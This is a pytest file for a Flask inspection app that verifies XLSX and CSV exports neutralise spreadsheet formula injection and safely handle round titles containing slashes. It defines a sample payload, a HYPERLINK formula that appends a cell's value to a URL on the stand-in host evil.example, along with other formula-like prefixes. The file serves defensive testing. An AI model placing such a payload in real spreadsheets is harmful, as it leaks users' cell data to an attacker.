"""Formula injection: text users typed (a post's name, a clause, a rectification's problem) that starts like a
formula is exported as text in every XLSX and CSV download, never as a live formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select, update

from inspect_app import tables
from inspect_app.extensions import db
from inspect_app.models import Post, Round, StandardItem, StandardVersion
from inspect_app.standards.exchange import read_upload
from tests.conftest import login

EVIL = '=HYPERLINK("http://evil.example/?"&C2,"点击查看")'


def formulas(xlsx: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet is not None
    return [str(c.value) for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def texts(xlsx: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet is not None
    return [c.value for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_text_in_xlsx_and_quoted_in_csv(text: str) -> None:
    xlsx = tables.to_xlsx("t", ["名称", "分数"], [[text, 87.5]], (10, 10))
    assert formulas(xlsx) == []
    header_a, header_b, shown, number = texts(xlsx)
    assert str(shown).strip() == text.strip()  # shown as typed (XML turns a lone CR into LF)
    assert number == 87.5  # the number is still a number
    rows = list(csv.reader(io.StringIO(tables.to_csv(["名称", "分数"], [[text, 87.5]]).decode("utf-8-sig"))))
    assert rows[1] == [f"'{text}", "87.5"]


def test_round_results_of_a_post_named_like_a_formula_export_as_text(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        published = db.session.scalars(select(Round.id).where(Round.status == "published")).one()
        db.session.execute(update(Post).values(name=EVIL))
        db.session.commit()
    login(client, "committee")
    for fmt in ("results", "deductions"):
        xlsx = client.get(f"/rankings/{published}/{fmt}.xlsx")
        assert xlsx.status_code == 200
        assert formulas(xlsx.data) == []
        assert EVIL in texts(xlsx.data)
        text = client.get(f"/rankings/{published}/{fmt}.csv").data.decode("utf-8-sig")
        assert f"'{EVIL}".replace('"', '""') in text


def test_a_standard_with_a_formula_like_clause_exports_as_text_and_imports_back_unchanged(
    app: Flask, client: FlaskClient
) -> None:
    with app.app_context():
        version = db.session.scalars(select(StandardVersion).order_by(StandardVersion.id)).first()
        assert version is not None
        standard_id = version.standard_id
        db.session.execute(
            update(StandardItem)
            .where(StandardItem.version_id == version.id)
            .values(clause="=1+1", scoring=EVIL, requirement=EVIL)
        )
        db.session.commit()
    login(client, "admin")
    xlsx = client.get(f"/standards/{standard_id}/export.xlsx")
    assert xlsx.status_code == 200
    assert formulas(xlsx.data) == []
    exported = client.get(f"/standards/{standard_id}/export.csv").data
    rows = read_upload("export.csv", exported)
    assert {row["序号"] for _, row in rows} == {"=1+1"}  # the guard is taken off again on import
    assert {row["评分办法"] for _, row in rows} == {row["项目"] for _, row in rows} == {EVIL}


def test_the_rectification_ledger_exports_a_formula_like_problem_as_text(
    app: Flask, client: FlaskClient
) -> None:
    from tests.web.test_rectifications import issued_from_a_sheet

    rect = issued_from_a_sheet(app, client)
    with app.app_context():
        from inspect_app.models import Rectification

        db.session.execute(update(Rectification).where(Rectification.id == rect.id).values(problem=EVIL))
        db.session.commit()
    ledger = client.get("/rectifications/ledger.xlsx")
    assert ledger.status_code == 200
    assert formulas(ledger.data) == []
    assert EVIL in texts(ledger.data)
    book = load_workbook(io.BytesIO(ledger.data))
    assert book.properties.creator == "示范矿业集团采矿公司"  # the mine's own name, as set up
    assert book.active is not None
    assert book.active.title.startswith("采矿公司")


def test_a_round_titled_with_a_slash_still_downloads(app: Flask, client: FlaskClient) -> None:
    """Worksheet names may not hold []:*?/\\ — a round called 11/2 once broke its download for everyone."""
    with app.app_context():
        published = db.session.scalars(select(Round.id).where(Round.status == "published")).one()
        db.session.execute(update(Round).where(Round.id == published).values(title="2026/11 [第2周]: 检查?"))
        db.session.commit()
    login(client, "committee")
    response = client.get(f"/rankings/{published}/results.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    assert "/" not in sheet.title
